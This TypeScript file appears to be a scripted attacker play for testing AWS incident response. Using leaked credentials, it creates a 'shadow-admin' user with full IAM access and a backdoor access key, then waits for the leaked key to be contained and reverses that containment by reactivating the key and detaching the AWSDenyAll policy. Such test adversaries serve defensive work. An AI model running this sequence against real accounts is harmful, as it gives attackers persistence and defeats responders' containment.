import {
  AttachUserPolicyCommand,
  CreateAccessKeyCommand,
  CreateUserCommand,
  DetachUserPolicyCommand,
  UpdateAccessKeyCommand,
} from '@aws-sdk/client-iam'
import { GetCallerIdentityCommand } from '@aws-sdk/client-sts'
import { IAM_FULL_ACCESS } from '../aws/managed-policies.ts'
import { type Play, type Stage, untilContainment } from './stage.ts'
import { createThief, type Signer } from './thief.ts'

/** Makes a second way in, watches the first, and undoes the containment once, as soon as it is complete. */
const UserName = 'shadow-admin'
const DENY_ALL = 'arn:aws:iam::aws:policy/AWSDenyAll'

export const playFightingThief: Play = async (stage) => {
  const { endpoint, leaked, act } = stage
  const { iam } = createThief(endpoint, leaked)
  await act(`made the user ${UserName}`, () => iam.send(new CreateUserCommand({ UserName })))
  await act(`gave ${UserName} all of IAM`, () =>
    iam.send(new AttachUserPolicyCommand({ UserName, PolicyArn: IAM_FULL_ACCESS })),
  )
  const made = await act(`made an access key of ${UserName}, and waits for the containment`, () =>
    iam.send(new CreateAccessKeyCommand({ UserName })),
  )
  const { AccessKeyId, SecretAccessKey } = made?.AccessKey ?? {}
  if (AccessKeyId === undefined || SecretAccessKey === undefined) return
  const second = { accessKeyId: AccessKeyId, secretAccessKey: SecretAccessKey }
  stage.meanwhile(async (signal) => {
    await untilContainment(stage, ({ inactive, quarantined }) => inactive && quarantined, signal)
    await undo(stage, second)
  })
}

async function undo({ endpoint, leaked }: Stage, second: Signer): Promise<void> {
  const { accessKeyId: AccessKeyId, userName: UserName } = leaked
  const { iam } = createThief(endpoint, second)
  await iam.send(new UpdateAccessKeyCommand({ UserName, AccessKeyId, Status: 'Active' }))
  await iam.send(new DetachUserPolicyCommand({ UserName, PolicyArn: DENY_ALL }))
  await createThief(endpoint, leaked).sts.send(new GetCallerIdentityCommand({}))
}
